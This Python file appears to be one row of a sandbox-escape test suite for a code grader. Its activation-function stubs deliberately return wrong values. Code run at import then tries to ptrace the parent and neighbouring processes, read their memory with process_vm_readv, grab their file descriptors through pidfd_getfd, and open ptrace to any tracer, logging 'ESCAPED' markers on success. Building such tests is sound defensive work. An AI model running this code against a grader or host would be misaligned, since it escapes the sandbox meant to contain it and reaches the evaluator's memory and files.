"""Row 16: ptrace, process_vm_readv and pidfd_getfd.

Tries: attach to the parent and to neighbours without stopping them, read their memory, take over their file
descriptors, declare everyone a tracer.

A sound grader: denies the calls; 0 points, no marker.
"""
import os

import numpy as np


def wrong(name, z, *rest):
    """Minus seven in the right shape: nothing in this file deserves a point."""
    shape = np.shape(z)
    shape = shape[:-1] if name in ("logsumexp", "logsumexp_plus") else shape
    return np.full(shape + shape[-1:] if name == "softmax_jacobian" else shape, -7.0)


def mark(what):
    """Say on stdout and in /tmp/marks that the attack got out."""
    line = "ESCAPED ptrace_parent: {}\n".format(what).encode("utf-8", "replace")
    try:
        os.write(1, line)
    except OSError:
        pass
    try:
        fd = os.open("/tmp/marks/ptrace_parent", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666)
        os.write(fd, line)
        os.close(fd)
    except OSError:
        pass


answer = wrong  # what all sixteen functions return; the attack below puts its own in its place


def sigmoid(z): return answer("sigmoid", z)
def sigmoid_grad(z): return answer("sigmoid_grad", z)
def tanh(z): return answer("tanh", z)
def tanh_grad(z): return answer("tanh_grad", z)
def relu(z): return answer("relu", z)
def relu_grad(z): return answer("relu_grad", z)
def softplus(z): return answer("softplus", z)
def softplus_grad(z): return answer("softplus_grad", z)
def logsumexp(z): return answer("logsumexp", z)
def logsumexp_grad(z): return answer("logsumexp_grad", z)
def logsumexp_plus(z): return answer("logsumexp_plus", z)
def logsumexp_plus_grad(z): return answer("logsumexp_plus_grad", z)
def softmax(z): return answer("softmax", z)
def log_softmax(z): return answer("log_softmax", z)
def softmax_jacobian(z): return answer("softmax_jacobian", z)
def softmax_vjp(z, v): return answer("softmax_vjp", z, v)


import ctypes
import sys

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17


class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


if sys.platform == "linux":
    libc.prctl(0x59616D61, ctypes.c_ulong(-1), 0, 0, 0)   # PR_SET_PTRACER, anyone
    for pid in (os.getppid(), os.getpid() - 1, os.getpid() - 2):
        if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
            mark(f"ptrace of {pid}")
            libc.ptrace(PTRACE_DETACH, pid, None, None)
        buffer = ctypes.create_string_buffer(8)
        local = Vec(ctypes.addressof(buffer), 8)
        remote = Vec(id(None), 8)   # a forked worker has the server's addresses
        if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 8:
            mark(f"read the memory of {pid}")
        if os.uname().machine == "x86_64":
            pidfd = libc.syscall(434, pid, 0)
            for fd in (0, 3, 4, 5):
                if pidfd >= 0 and libc.syscall(438, pidfd, fd, 0) >= 0:
                    mark(f"file descriptor {fd} of {pid}")
